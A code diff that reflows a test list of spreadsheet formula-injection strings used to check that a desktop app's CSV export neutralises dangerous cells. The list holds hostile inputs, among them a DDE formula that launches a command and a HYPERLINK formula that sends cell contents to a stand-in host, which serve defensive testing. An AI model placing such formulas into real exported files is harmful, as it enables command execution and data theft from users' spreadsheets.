@@ -22,8 +22,8 @@ from sase_desktop.services.export import COLUMNS, export_rows, safe_cell
 STARTS = "=+-@\t\r\n＝＋－＠"
 ATTACKS = [
     *map("".join, product(STARTS, ("1+1", "cmd|' /C calc'!A0", "SUM(A1)"))),
-    '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t=1+1", "\r\n=1+1", "=", "+", "-", "@", "=1", "－１",
-    "name;=1+1", "name\t=1+1", 'name";=1+1', "name ; @SUM(A1)", "a\n=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t=1+1", "\r\n=1+1", "=", "+", "-", "@", "=1",
+    "－１", "name;=1+1", "name\t=1+1", 'name";=1+1', "name ; @SUM(A1)", "a\n=1+1",
     "a\r@x", "-1+1", "+8613800000000+1",
 ]  # fmt: skip
 HARMLESS = ["-5", "+8613800000000", "张三", "a=b", "a-b", "x@example.com", "", "'quoted"]
